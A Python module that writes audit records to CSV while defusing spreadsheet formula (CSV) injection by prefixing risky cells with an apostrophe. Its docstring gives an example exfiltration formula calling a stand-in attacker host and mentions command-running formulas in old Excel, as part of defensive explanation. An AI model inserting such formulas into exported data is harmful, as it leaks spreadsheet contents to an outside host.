"""Audit records as CSV that a spreadsheet opens as text, never as formulas.

Records carry model- and web-controlled text (a tool's output, a fetched page, a file's
content). A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or
their full-width forms) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("https://evil.example/?"&A1, "open")`` would exfiltrate the sheet, ``=cmd|...``
run commands on old Excel. Such cells get a leading ``'`` (OWASP's "CSV injection" advice);
the JSON-lines export stays byte-exact.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable
from typing import Any, Protocol, TextIO

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Record(Protocol):
    def to_dict(self) -> dict[str, Any]: ...


def inert(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def write_csv(records: Iterable[_Record], out: TextIO) -> int:
    """Write ``records`` (header from the first) to ``out``; return how many were written."""
    writer: Any = None
    n = 0
    for e in records:
        d = e.to_dict()
        for k in ("arguments", "detail"):
            d[k] = json.dumps(d[k], ensure_ascii=False) if d[k] is not None else ""
        if writer is None:
            writer = csv.DictWriter(out, fieldnames=list(d))
            writer.writeheader()
        writer.writerow({k: inert(v) for k, v in d.items()})
        n += 1
    return n
